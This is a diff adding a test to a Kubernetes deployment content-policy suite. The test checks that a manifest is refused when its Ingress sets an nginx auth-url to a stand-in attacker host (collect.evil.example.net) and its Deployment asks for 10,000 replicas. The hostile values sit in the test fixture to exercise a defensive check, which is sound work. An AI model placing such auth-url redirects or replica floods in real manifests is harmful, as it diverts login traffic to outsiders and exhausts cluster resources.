@@ -57,4 +57,27 @@ describe("content policy: Ingress hosts outside spec.rules (through the router)"
     expect(fine.text, fine.text).to.include("Dry run: Deploy branch wildcard-fine");
     expect(fine.text).to.include("Ingress wild-api");
   });
+
+  it("refuses an auth-url outside the environment's domain and 10,000 replicas, naming each object and rule", async () => {
+    const t = await deployManifest(h, "exfil-trick", "a1a5000000000000000000000000000000000004", [
+      "apiVersion: networking.k8s.io/v1",
+      "kind: Ingress",
+      "metadata:",
+      "  name: login",
+      "  annotations: { nginx.ingress.kubernetes.io/auth-url: \"https://collect.evil.example.net/auth\" }",
+      "spec: { rules: [{ host: github.example.com }] }",
+      "---",
+      "apiVersion: apps/v1",
+      "kind: Deployment",
+      "metadata: { name: swarm }",
+      "spec:",
+      "  replicas: 10000",
+      "  selector: { matchLabels: { app: swarm } }",
+      "  template: { metadata: { labels: { app: swarm } }, spec: { containers: [{ name: app, image: registry.example.com/github:abc }] } }",
+    ].join("\n"));
+    expect(t.final?.tone, t.text).to.equal("error");
+    expect(t.text).to.include("nothing was applied");
+    expect(t.text).to.include("Ingress login: annotation nginx.ingress.kubernetes.io/auth-url sends traffic to collect.evil.example.net, which is not under github.example.com");
+    expect(t.text).to.include("Deployment swarm: replicas 10000 is more than the 50 allowed");
+  });
 });
